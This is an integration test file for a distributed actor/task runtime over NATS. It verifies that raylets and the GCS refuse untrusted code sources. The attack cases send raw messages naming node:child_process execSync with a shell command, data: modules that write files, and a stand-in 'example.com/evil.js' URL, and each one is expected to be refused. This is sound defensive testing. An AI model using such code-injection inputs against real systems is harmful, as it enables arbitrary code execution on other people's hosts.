// How worker hosts load user code, on real processes: a nats-server this spec starts, a GCS process,
// a raylet process with forked worker hosts (startLocalCluster), and a second raylet started with
// --code-root. An actor and a task written in the "decorated" form run; the attacks of issue 14 —
// raw messages on the bus, bypassing the client, naming node:, data: and https: modules — are
// refused with CODE_SOURCE_REFUSED, create nothing and run nothing (marker files stay unwritten).
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { Packr } from 'msgpackr';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { Exists, nodeIdAffinity } from '../../lib/index.ts';
import { decode, PROTOCOL_VERSION } from '../../protocols/codec.ts';
import { messages } from '../../protocols/messages/registry.ts';
import { subjects } from '../../protocols/subjects.ts';
import type { Bus } from '../../runtime/bus/bus.ts';
import { connectNatsBus } from '../../runtime/bus/nats-connect.ts';
import { ActorDiedError, CodeSourceRefusedError, defineTask, startLocalCluster, type LocalCluster } from '../../runtime/index.ts';
import { spawnRuntimeProcess, type RuntimeProcess } from '../../runtime/local/runtime-process.ts';
import { CounterActor } from '../fixtures/client/actors.ts';
import { Probe, square, whereTask } from '../fixtures/decorated.ts';
import { Add } from '../fixtures/tasks/tasks.ts';
import { startNatsServer, type NatsServerHandle } from '../helpers/nats-server.ts';
import { until } from '../helpers/until.ts';

const s = suite('code loading (nats-server, GCS and raylet processes)');
const sub = subjects('default');
/** Raw msgpack, as a hostile peer would publish it: no client library, no validation on the way out. */
const packr = new Packr({ useRecords: false, moreTypes: false });
const raw = (t: string, b: unknown): Uint8Array => packr.pack({ v: PROTOCOL_VERSION, t, b });

let server: NatsServerHandle;
let local: LocalCluster;
let rooted: RuntimeProcess;
let bus: Bus;
let dir: string;
let rootDir: string;
let openId: string;
let rootedId: string;

s.before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'orrery-code-'));
  rootDir = mkdtempSync(join(tmpdir(), 'orrery-code-root-'));
  writeFileSync(join(rootDir, 'inside.mjs'), 'export function inside(x) { return `inside ${x}`; }\n');
  server = await startNatsServer();
  local = await startLocalCluster({ transport: 'nats', address: server.url, nodes: [{ name: 'open', resources: { CPU: 2 } }] });
  // tainted, so only what tolerates it (and names it) goes there
  rooted = await spawnRuntimeProcess('raylet', ['--address', server.url, '--node-name', 'rooted', '--num-cpus', '1', '--taints', 'rooted=yes', '--code-root', rootDir]);
  await until('the rooted raylet to register', async () => (await local.cluster.nodes()).find((n) => n.name === 'rooted' && n.state === 'ALIVE'));
  const nodes = await local.cluster.nodes();
  openId = nodes.find((n) => n.name === 'open')!.nodeId;
  rootedId = nodes.find((n) => n.name === 'rooted')!.nodeId;
  bus = await connectNatsBus({ servers: server.url });
});

s.after(async () => {
  await bus?.close();
  await rooted?.stop();
  await local?.stop();
  await server?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
  if (rootDir) rmSync(rootDir, { recursive: true, force: true });
});

/** Sends raw bytes as a request; the wire error code it was answered with, or 'ok'. */
async function answerCode(subject: string, bytes: Uint8Array): Promise<string> {
  const msg = await bus.request(subject, bytes, { timeoutMs: 10_000 });
  const { body } = decode(msg.data, { registry: { reply: messages.reply } });
  return body.ok ? 'ok' : body.error.code;
}

s('an actor defined in the decorated form (export const Probe = defineActor(url, class Probe {…})) is created and answers calls', async () => {
  const probe = await local.cluster.actor(Probe).remote('decorated');
  await probe.ready({ timeoutMs: 30_000 });
  assert.equal(await probe.call('note', 'a'), { label: 'decorated', seen: ['a'] });
  assert.equal(await probe.call('note', 'b'), { label: 'decorated', seen: ['a', 'b'] });
  const where = await probe.call('where');
  assert.is(where.nodeId, openId);
  assert.is(where.actorId, probe.actorId);
  assert.is((await probe.info()).state, 'ALIVE');
});

s('a task defined in the decorated form (export const f = defineTask(url, function f() {…})) runs in a task host', async () => {
  assert.is(await local.cluster.task(square).remote(12), 144);
  const r = await local.cluster.task(whereTask).remoteWithInfo();
  assert.is(r.value.nodeId, openId);
  assert.is(r.value.taskId, r.taskId);
});

s('submit_task straight to a raylet naming node:child_process execSync, a data: or an https: module is refused; nothing runs', async () => {
  const base = { namespace: 'default', options: {}, hops: 0, attempt: 0 };
  for (const nodeId of [openId, rootedId]) {
    const marker = join(dir, `pwned-task-${nodeId}`);
    const attacks = [
      { moduleUrl: 'node:child_process', functionName: 'execSync', args: [`touch ${marker}`] },
      { moduleUrl: `data:text/javascript,import {writeFileSync} from 'node:fs';writeFileSync(${JSON.stringify(marker)},'x');export function f(){}`, functionName: 'f', args: [] },
      { moduleUrl: 'https://example.com/evil.js', functionName: 'f', args: [] },
    ];
    let n = 0;
    for (const code of attacks) {
      const taskId = `bad${nodeId.slice(0, 8)}${String(n++).padStart(5, '0')}`;
      assert.is(await answerCode(sub.raylet(nodeId, 'submit_task'), raw('submit_task', { ...base, taskId, code })), 'CODE_SOURCE_REFUSED', code.moduleUrl);
    }
    assert.not.ok(existsSync(marker), 'no marker written');
  }
  // the raylets go on serving
  assert.is(await local.cluster.task(Add).options({ schedulingStrategy: nodeIdAffinity(openId) }).remote(1, 2), 3);
});

s('register_actor naming a data:, node: or https: module is refused by the GCS; no actor is created and nothing runs', async () => {
  const marker = join(dir, 'pwned-actor');
  const urls = [
    `data:text/javascript,import {writeFileSync} from 'node:fs';writeFileSync(${JSON.stringify(marker)},'x');export class Evil {}`,
    'node:child_process',
    'https://example.com/evil.js',
  ];
  const before = (await local.cluster.actors()).length;
  for (const [i, moduleUrl] of urls.entries()) {
    const actorId = `e0000000000000${i}${i}`;
    const body = { actorId, code: { moduleUrl, className: 'Evil', args: [] }, namespace: 'default', options: {} };
    assert.is(await answerCode(sub.gcs('register_actor'), raw('register_actor', body)), 'CODE_SOURCE_REFUSED', moduleUrl);
    assert.is(await answerCode(sub.gcs('get_actor'), raw('get_actor', { actorId })), 'ACTOR_NOT_FOUND', 'nothing created');
  }
  assert.is((await local.cluster.actors()).length, before);
  assert.not.ok(existsSync(marker), 'the data: module never ran');
});

s('create_actor straight to a raylet (bypassing the GCS) with a data: module is refused; nothing runs', async () => {
  const marker = join(dir, 'pwned-create');
  const moduleUrl = `data:text/javascript,import {writeFileSync} from 'node:fs';writeFileSync(${JSON.stringify(marker)},'x');export class Evil {}`;
  const body = {
    actorId: 'e000000000000099', code: { moduleUrl, className: 'Evil', args: [] }, namespace: 'default',
    labels: {}, resources: {}, maxConcurrency: 1, isolation: 'shared', incarnation: 0,
  };
  assert.is(await answerCode(sub.raylet(openId, 'create_actor'), raw('create_actor', body)), 'CODE_SOURCE_REFUSED');
  assert.not.ok(existsSync(marker), 'the data: module never ran');
  assert.is(await answerCode(sub.actorCall('e000000000000099'), raw('actor_call', { method: 'x', args: [] })).catch((e: Error) => e.name), 'NoRespondersError', 'no actor answers');
});

s('a raylet with --code-root loads only code under its roots: a module there runs, one elsewhere is CODE_SOURCE_REFUSED', async () => {
  const url = pathToFileURL(join(rootDir, 'inside.mjs')).href;
  const mod = (await import(url)) as { inside: (x: string) => string };
  const Inside = defineTask(url, mod.inside);
  const pin = { schedulingStrategy: nodeIdAffinity(rootedId), tolerations: { rooted: Exists() } };
  assert.is(await local.cluster.task(Inside).options(pin).remote('roots'), 'inside roots');

  const err = await local.cluster.task(Add).options(pin).remote(1, 2).catch((e: unknown) => e);
  assert.instance(err, CodeSourceRefusedError);
  assert.is((err as CodeSourceRefusedError).detail.reason, 'outside the code roots of this node');

  const actor = await local.cluster.actor(CounterActor).options({ ...pin, maxRestarts: 0 }).remote(1);
  const died = await actor.ready({ timeoutMs: 30_000 }).catch((e: unknown) => e);
  assert.instance(died, ActorDiedError);
  assert.match(String((died as ActorDiedError).deathCause), /outside the code roots of this node/);
});

s.run();
